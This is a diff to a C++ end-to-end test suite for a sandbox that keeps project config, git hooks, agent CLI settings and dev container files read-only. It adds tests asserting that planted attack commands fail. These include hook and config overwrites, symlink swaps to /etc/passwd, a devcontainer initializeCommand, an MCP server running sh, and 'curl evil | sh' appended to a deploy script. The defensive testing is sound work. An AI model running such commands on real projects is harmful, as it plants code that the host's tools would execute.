@@ -6,6 +6,9 @@
 // rebuild it, swap in a link, create what is missing. Afterwards the host's
 // files are compared byte for byte with before, no new hook or repository
 // exists, the placeholders are gone, and the next spawn's plan is the first's.
+// Issue 26, item 2: the same for the other agent CLIs' project settings
+// (`.gemini/`, `.codex/`) and the editors' and dev containers' settings that
+// run commands on open, each row of core's table attacked.
 //
 // Under CI=true a runtime that is not usable fails these tests; otherwise they
 // skip (scripts/test.sh brings the runtimes up first).
@@ -17,6 +20,8 @@
 #include <string>
 #include <vector>
 
+#include "absl/strings/str_cat.h"
+#include "core/protected_paths.h"
 #include "gmock/gmock.h"
 #include "gtest/gtest.h"
 #include "tests/e2e/e2e_support.h"
@@ -37,16 +42,36 @@ const std::map<std::string, std::string>& HostFiles() {
       {".mcp.json", "{\"mcpServers\": {}}\n"},
       {".claude/settings.json", "{\"permissions\": {}}\n"},
       {".nubos-pilot/bin/np-payload.js", "console.log('host payload')\n"},
+      // The other agent CLIs' project settings and a dev container's config:
+      // each can name commands the host runs (issue 26, item 2).
+      {".gemini/settings.json", "{\"mcpServers\": {}}\n"},
+      {".codex/config.toml", "model = \"o3\"\n"},
+      {".devcontainer/devcontainer.json", "{\"image\": \"debian\"}\n"},
   };
   return *files;
 }
 
 // Protected paths the project does not have; each must still be absent after.
 const std::vector<std::string>& MissingPaths() {
-  static const auto* paths = new std::vector<std::string>{
-      ".gitmodules",    ".vscode",      ".idea",          ".git/hooks/pre-commit",
-      ".git/commondir", ".git/modules", ".git/worktrees", ".git-away",
-      ".np-away",       "hooks-away"};
+  static const auto* paths = new std::vector<std::string>{".gitmodules",
+                                                          ".vscode",
+                                                          ".idea",
+                                                          ".git/hooks/pre-commit",
+                                                          ".git/commondir",
+                                                          ".git/modules",
+                                                          ".git/worktrees",
+                                                          ".git-away",
+                                                          ".np-away",
+                                                          "hooks-away",
+                                                          ".cursor",
+                                                          ".zed",
+                                                          ".devcontainer.json",
+                                                          ".gemini/new.json",
+                                                          ".gemini/commands",
+                                                          ".codex/new.toml",
+                                                          ".gemini-away",
+                                                          ".codex-away",
+                                                          ".devcontainer-away"};
   return *paths;
 }
 
@@ -143,7 +168,10 @@ TEST_P(ProtectedPathsTest, WritesAndTruncationsFail) {
       " echo '[core] hooksPath = /tmp' >> .git/config; true > .git/config;"
       " true > .nubos-pilot/audit/np-exec.jsonl; echo evil > .envrc; echo '{}' > .mcp.json;"
       " echo evil > .claude/settings.json; echo evil > .nubos-pilot/bin/np-payload.js;"
-      " chmod 644 .git/hooks/pre-push.sample; echo ok > src/writable; true");
+      " chmod 644 .git/hooks/pre-push.sample; echo evil > .gemini/settings.json;"
+      " true > .codex/config.toml; echo evil >> .devcontainer/devcontainer.json;"
+      " echo '{}' > .gemini/new.json; echo x > .codex/new.toml; mkdir .gemini/commands;"
+      " echo ok > src/writable; true");
   EXPECT_EQ(r.exit_code, 0) << r.err;
   EXPECT_THAT(r.err, HasSubstr("Read-only file system"));
   ExpectHostUntouched("write and truncate");
@@ -154,7 +182,8 @@ TEST_P(ProtectedPathsTest, DeletionsFail) {
   Baseline();
   RunResult r = Attack(
       "rm -rf .git/hooks .git/config .nubos-pilot/config.json .nubos-pilot/audit"
-      " .nubos-pilot/bin .claude .envrc .mcp.json; rm -rf .git .nubos-pilot; true");
+      " .nubos-pilot/bin .claude .envrc .mcp.json .gemini .codex .devcontainer;"
+      " rm -f .gemini/settings.json .codex/config.toml; rm -rf .git .nubos-pilot; true");
   EXPECT_EQ(r.exit_code, 0) << r.err;
   ExpectHostUntouched("rm");
 }
@@ -166,7 +195,11 @@ TEST_P(ProtectedPathsTest, RenamingAParentAwayAndRebuildingItFails) {
       " chmod +x .git/hooks/pre-commit; mv .nubos-pilot .np-away; mkdir .nubos-pilot;"
       " echo '{\"isolation\":{\"tier\":\"direct\"}}' > .nubos-pilot/config.json;"
       " mv .git/hooks .git/hooks-away; mkdir .git/hooks2; mv .git/hooks2 .git/hooks;"
-      " mv .claude .claude-away; true");
+      " mv .claude .claude-away; mv .gemini .gemini-away; mkdir .gemini;"
+      " echo evil > .gemini/settings.json; mv .codex .codex-away; mkdir .codex;"
+      " echo evil > .codex/config.toml; mv .devcontainer .devcontainer-away;"
+      " echo evil > t; mv -f t .codex/config.toml; echo evil > t; mv -f t .gemini/settings.json;"
+      " rm -f t; true");
   EXPECT_EQ(r.exit_code, 0) << r.err;
   ExpectHostUntouched("mv and rebuild");
 }
@@ -176,7 +209,8 @@ TEST_P(ProtectedPathsTest, LinkSwapsFail) {
   RunResult r = Attack(
       "ln -sf /etc/passwd .envrc; ln -sfn /tmp .git/hooks; ln -sf /tmp/x .git/config;"
       " ln -s ../evil .gitmodules; ln -s /tmp .vscode; ln -sf /tmp/c .nubos-pilot/config.json;"
-      " true");
+      " ln -sfn /tmp .gemini; ln -sf /tmp/x .codex/config.toml; ln -s /tmp .cursor;"
+      " ln -s /tmp/x .devcontainer.json; ln -sfn /tmp .devcontainer; true");
   EXPECT_EQ(r.exit_code, 0) << r.err;
   ExpectHostUntouched("symlink swap");
 }
@@ -186,7 +220,10 @@ TEST_P(ProtectedPathsTest, CreatingWhatIsMissingFails) {
   RunResult r = Attack(
       "echo evil > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit;"
       " echo '[submodule \"x\"]' > .gitmodules; mkdir .vscode; mkdir .idea;"
-      " echo ../../evil > .git/commondir; mkdir -p .git/modules/x/hooks .git/worktrees/x; true");
+      " echo ../../evil > .git/commondir; mkdir -p .git/modules/x/hooks .git/worktrees/x;"
+      " mkdir -p .cursor .zed; echo '{\"mcpServers\":{\"x\":{\"command\":\"sh\"}}}' >"
+      " .cursor/mcp.json; echo '{\"initializeCommand\":\"touch /tmp/pwn\"}' >"
+      " .devcontainer.json; mkdir .gemini/commands; echo x > .codex/new.toml; true");
   EXPECT_EQ(r.exit_code, 0) << r.err;
   ExpectHostUntouched("create missing");
 }
@@ -194,23 +231,124 @@ TEST_P(ProtectedPathsTest, CreatingWhatIsMissingFails) {
 // Without a repository, none can be made for the host's git to obey later
 // (Codex's BUGB-15632: `git init` plus one config value).
 TEST_P(ProtectedPathsTest, NoRepositoryCanBeCreated) {
-  for (const char* path : {".git", ".claude", ".nubos-pilot/bin", ".envrc", ".mcp.json"}) {
+  for (const char* path : {".git", ".claude", ".nubos-pilot/bin", ".envrc", ".mcp.json", ".gemini",
+                           ".codex", ".devcontainer"}) {
     ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
   }
   RunResult r = Attack(
       "mkdir -p .git/hooks; printf '[core]\\n\\tfsmonitor = /tmp/evil\\n' > .git/config;"
       " echo 'ref: refs/heads/main' > .git/HEAD; mkdir .claude; echo evil > .envrc;"
-      " mkdir -p .nubos-pilot/bin; echo evil > .nubos-pilot/bin/np-payload.js; ls -a; true");
+      " mkdir -p .nubos-pilot/bin; echo evil > .nubos-pilot/bin/np-payload.js;"
+      " mkdir -p .gemini .codex .devcontainer; echo evil > .gemini/settings.json;"
+      " echo evil > .codex/config.toml; echo evil > .devcontainer.json; ls -a; true");
   EXPECT_EQ(r.exit_code, 0) << r.err;
   // Inside, the placeholders were there ...
   EXPECT_THAT(r.out, HasSubstr(".git"));
   // ... and on the host, nothing is left of them or of the attempt.
   struct stat st;
-  for (const char* path : {".git", ".claude", ".envrc", ".mcp.json", ".nubos-pilot/bin",
-                           ".gitmodules", ".vscode", ".idea"}) {
+  for (const char* path :
+       {".git", ".claude", ".envrc", ".mcp.json", ".nubos-pilot/bin", ".gitmodules", ".vscode",
+        ".idea", ".gemini", ".codex", ".cursor", ".zed", ".devcontainer", ".devcontainer.json"}) {
     EXPECT_NE(lstat((project_ + "/" + path).c_str(), &st), 0) << path;
   }
   EXPECT_EQ(Read(".nubos-pilot/config.json"), config_);
+}
+
+// Every row of core's table outside np-exec's and git's own (which the tests
+// above attack one by one), present and missing: the program cannot write
+// into it, create or replace it, or rename it away and put its own in its
+// place. A row added to the table is attacked here without a new test.
+TEST_P(ProtectedPathsTest, EveryHostToolEntryOfTheTableResistsEveryAttack) {
+  std::vector<std::string> present;
+  std::vector<std::string> missing;
+  for (const std::string& listed : DefaultProtectedPaths()) {
+    if (listed.rfind(".git/", 0) == 0 || listed.rfind(".nubos-pilot/", 0) == 0) continue;
+    // Alternate, so both kinds meet each sort of entry across the table.
+    ((present.size() + missing.size()) % 2 == 0 ? present : missing).push_back(listed);
+  }
+  std::map<std::string, std::string> before;  // Host file -> content.
+  std::string script;
+  for (const std::string& listed : present) {
+    const bool directory = listed.back() == '/';
+    const std::string path = directory ? listed.substr(0, listed.size() - 1) : listed;
+    const std::string file = directory ? path + "/host-file" : path;
+    ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
+    if (directory) dir_.MakeDir("project/" + path);
+    dir_.Write("project/" + file, "host " + path + "\n");
+    before[file] = "host " + path + "\n";
+    absl::StrAppend(
+        &script, " echo evil > '", file, "'; echo evil >> '", file, "';",
+        " echo evil > x.tmp; mv -f x.tmp '", file, "'; rm -f '", file, "';",
+        directory ? absl::StrCat(" echo evil > '", path, "/new'; mv '", path, "' '", path,
+                                 ".away'; mkdir '", path, "'; echo evil > '", path, "/host-file';")
+                  : absl::StrCat(" mv '", path, "' '", path, ".away'; echo evil > '", path, "';"),
+        " rm -rf '", path, "'; ln -sfn /tmp '", path, "';");
+  }
+  for (const std::string& listed : missing) {
+    const bool directory = listed.back() == '/';
+    const std::string path = directory ? listed.substr(0, listed.size() - 1) : listed;
+    ASSERT_EQ(RunProcess({"/bin/rm", "-rf", project_ + "/" + path}, Options(env_)).exit_code, 0);
+    absl::StrAppend(&script, " mkdir -p '", path, "/sub'; echo evil > '", path, "/f';",
+                    " echo evil > '", path, "'; echo evil > x.tmp; mv -f x.tmp '", path, "';",
+                    " ln -s /tmp '", path, "';");
+  }
+  RunResult r = Attack(script + " rm -f x.tmp; true");
+  EXPECT_EQ(r.exit_code, 0) << r.err;
+  for (const auto& [file, content] : before) {
+    EXPECT_EQ(Read(file), content) << file;
+  }
+  struct stat st;
+  for (const std::string& listed : present) {
+    const bool directory = listed.back() == '/';
+    const std::string path = directory ? listed.substr(0, listed.size() - 1) : listed;
+    EXPECT_NE(lstat((project_ + "/" + path + ".away").c_str(), &st), 0) << path;
+    if (directory) {
+      EXPECT_NE(lstat((project_ + "/" + path + "/new").c_str(), &st), 0) << path;
+    }
+    ASSERT_EQ(lstat((project_ + "/" + path).c_str(), &st), 0) << path;
+    EXPECT_EQ(S_ISDIR(st.st_mode), directory) << path;
+  }
+  for (const std::string& listed : missing) {
+    const std::string path = listed.back() == '/' ? listed.substr(0, listed.size() - 1) : listed;
+    EXPECT_NE(lstat((project_ + "/" + path).c_str(), &st), 0) << path << " was created";
+  }
+  EXPECT_EQ(Read(".nubos-pilot/config.json"), config_);
+}
+
+// Issue 26, item 7: a read-only bind keeps a name read-only, not its inode.
+// A program makes a script and a second name of it (a hard link) while the
+// script is not protected yet; the operator then protects the script; the
+// next spawn's program writes through the other name. Refused now, and the
+// host's script keeps its bytes.
+TEST_P(ProtectedPathsTest, AHardLinkMadeBeforeTheFileWasProtectedCannotWriteIt) {
+  RunResult planted = Attack(
+      "mkdir -p scripts && printf '#!/bin/sh\\necho deploy\\n' > scripts/deploy.sh &&"
+      " ln scripts/deploy.sh src/alias && echo planted");
+  ASSERT_EQ(planted.exit_code, 0) << planted.err;
+  ASSERT_EQ(planted.out, "planted\n");
+  const std::string script = Read("scripts/deploy.sh");
+  config_ = ContainerConfig(runtime(), "np-test:local", {{"protect", {"scripts/deploy.sh"}}});
+  MakeProject(project_, config_);
+  ASSERT_EQ(RunProcess({NpExecBin(), "trust"}, Options(env_, 30000, project_)).exit_code, 0);
+  RunResult r = Attack("echo 'curl evil | sh' >> src/alias; echo ran");
+  EXPECT_EQ(r.exit_code, 125) << r.out << r.err;
+  EXPECT_THAT(r.err, HasSubstr("isolation-protected-path-unsafe"));
+  EXPECT_THAT(r.out, ::testing::Not(HasSubstr("ran")));
+  EXPECT_EQ(Read("scripts/deploy.sh"), script);
+  EXPECT_EQ(script, "#!/bin/sh\necho deploy\n");
+  // Once the other name is gone, the script is protected like any other.
+  ASSERT_EQ(unlink((project_ + "/src/alias").c_str()), 0);
+  // A new hard link to a protected file cannot be made from inside (it is a
+  // mount of its own: EXDEV), so nothing writes it that way either.
+  RunResult after = Attack(
+      "echo evil >> scripts/deploy.sh; ln scripts/deploy.sh src/again && echo evil >> src/again;"
+      " ln .envrc src/envrc && echo evil >> src/envrc; echo ran");
+  EXPECT_EQ(after.exit_code, 0) << after.err;
+  EXPECT_THAT(after.err, HasSubstr("Read-only file system"));
+  EXPECT_EQ(Read("scripts/deploy.sh"), script);
+  EXPECT_EQ(Read(".envrc"), HostFiles().at(".envrc"));
+  EXPECT_FALSE(FileExists(project_ + "/src/again"));
+  EXPECT_FALSE(FileExists(project_ + "/src/envrc"));
 }
 
 // A spawn that ends while another of the project still runs must leave the
